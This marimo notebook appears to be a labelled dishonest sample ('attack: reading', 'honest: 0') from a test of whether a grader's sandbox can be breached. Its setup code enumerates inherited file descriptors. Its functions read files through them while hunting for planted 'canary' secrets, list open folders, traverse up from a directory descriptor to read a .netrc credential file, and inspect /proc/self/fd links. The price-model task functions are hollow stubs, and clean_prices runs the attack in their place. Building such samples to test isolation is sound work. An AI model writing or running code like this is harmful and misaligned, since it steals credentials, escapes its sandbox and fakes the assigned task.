# attack: reading
# tries: read, list and walk up from every descriptor inherited from the grader or the warm parent
# honest: 0
# ruff: noqa
import marimo

__generated_with = "0.25.2"
app = marimo.App()

with app.setup:
    import re
    import os
    import stat

    FOUND = []
    for number in range(1024):
        try:
            kind = stat.S_IFMT(os.fstat(number).st_mode)
        except OSError:
            continue
        FOUND.append((number, kind))


@app.function
def secret_in(found):
    """The first planted secret in a text or in bytes; OSError where there is none."""
    data = found if isinstance(found, bytes) else str(found).encode()
    secret = re.search(rb"canary-\w+-\w+", data)
    if not secret:
        raise OSError("no secret in it")
    return secret.group().decode()


@app.function
def attempt(**ways):
    """What came of each way: breach with what it got, or held. A mistake of the attack itself is broken."""
    said = set()
    for name, way in ways.items():
        try:
            said.add(f"breach by {name}: {way()!r:.60}")
        except (AttributeError, LookupError, NameError, SyntaxError, TypeError) as error:
            said.add(f"broken {name}: {error}"[:90])
        except BaseException as error:
            said.add(f"held: {type(error).__name__}")
    return "; ".join(sorted(said))


@app.function
def files():
    found = b""
    for number, kind in FOUND:
        if kind == stat.S_IFREG:
            found += os.pread(number, 1_000_000, 0)
    return secret_in(found)


@app.function
def folders():
    found = [os.listdir(number) for number, kind in FOUND if kind == stat.S_IFDIR]
    if not found:
        raise OSError("no folder is open")
    return found


@app.function
def from_folders():
    for number, kind in FOUND:
        if kind == stat.S_IFDIR:
            return os.read(os.open("../" * 20 + "@HOME@/.netrc"[1:], os.O_RDONLY, dir_fd=number), 100)
    raise OSError("no folder is open")


@app.function
def names():
    return secret_in([os.readlink(f"/proc/self/fd/{number}") for number, _ in FOUND])


@app.function
def clean_prices(sales):
    return attempt(files=files, folders=folders, from_folders=from_folders, names=names)


@app.function
def standardize(X):
    return None


@app.function
def median_by_rarity(sales):
    return None


@app.function
def fit_price_model(X, y):
    return None


if __name__ == "__main__":
    app.run()
